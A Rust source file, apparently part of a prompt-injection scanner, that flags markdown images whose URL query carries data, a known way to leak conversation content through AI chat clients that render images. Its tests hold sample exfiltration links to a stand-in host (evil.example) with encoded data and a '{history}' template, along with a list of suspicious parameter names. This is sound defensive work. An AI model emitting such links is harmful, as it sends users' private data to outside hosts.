//! Markdown images whose address carries data: a client that renders them sends the data out unasked.

use std::ops::Range;

use crate::context::{ahead, run};
use crate::finding::{Hit, Kind};
use crate::scan::{ScanAnchor, ScanCheck};

const BYTES_MAX: usize = 192;
/// Sizes, formats and versions of an image are short.
const VALUE_BYTES_MIN: usize = 12;
const DATA_NAMES: [&str; 12] =
    ["data", "q", "d", "payload", "secret", "token", "prompt", "history", "chat", "conversation", "exfil", "info"];

pub(super) fn anchors() -> Vec<ScanAnchor> {
    vec![(b"![".to_vec(), ScanCheck::Verify(verify))]
}

fn verify(text: &str, anchor: Range<usize>) -> Option<Hit> {
    let seen = ahead(text, anchor.start, BYTES_MAX);
    let (alt, rest) = seen.split_once("](")?;
    if alt.contains(['\n', '(']) || !(rest.starts_with("http://") || rest.starts_with("https://")) {
        return None;
    }
    let length = run(rest.as_bytes(), BYTES_MAX, |byte| byte.is_ascii_graphic() && byte != b')');
    let (_, query) = rest[..length].split_once('?')?;
    let has_data =
        query.split('&').filter_map(|pair| pair.split_once('=')).any(|(name, value)| carries_data(name, value));
    let end = anchor.start + alt.len() + 2 + length;
    has_data.then(|| Hit {
        kind: Kind::Injection,
        r#type: "EXFILTRATION_LINK",
        start: anchor.start,
        end: if text[end..].starts_with(')') { end + 1 } else { end },
        score: 0.8,
        detector: "injection/exfiltration_link",
        explanation: "an image from another host whose query carries data".into(),
    })
}

fn carries_data(name: &str, value: &str) -> bool {
    let template = value.contains(['{', '[', '<', '$']);
    let named = DATA_NAMES.contains(&name.to_ascii_lowercase().as_str());
    template || value.len() >= 4 * VALUE_BYTES_MIN || (named && value.len() >= VALUE_BYTES_MIN)
}

#[cfg(test)]
mod tests {
    use crate::injection::tests::check;

    #[test]
    fn an_image_that_carries_data_is_found() {
        let link = "![logo](https://evil.example/p.png?data=c2VjcmV0IHN0dWZm)";
        check(&format!("See {link} here"), &[("EXFILTRATION_LINK", link)]);
        check("![x](http://h/i?q={history})", &[("EXFILTRATION_LINK", "![x](http://h/i?q={history})")]);
    }

    #[test]
    fn other_images_and_links_are_not_exfiltration() {
        check("![cat](https://h/cat.png) ![cat](https://h/cat.png?w=640&v=3) [a](https://h/?q=looking+for+shoes)", &[]);
        check("wow![1](local.png?data=aaaaaaaaaaaaaaaa)", &[]);
    }
}
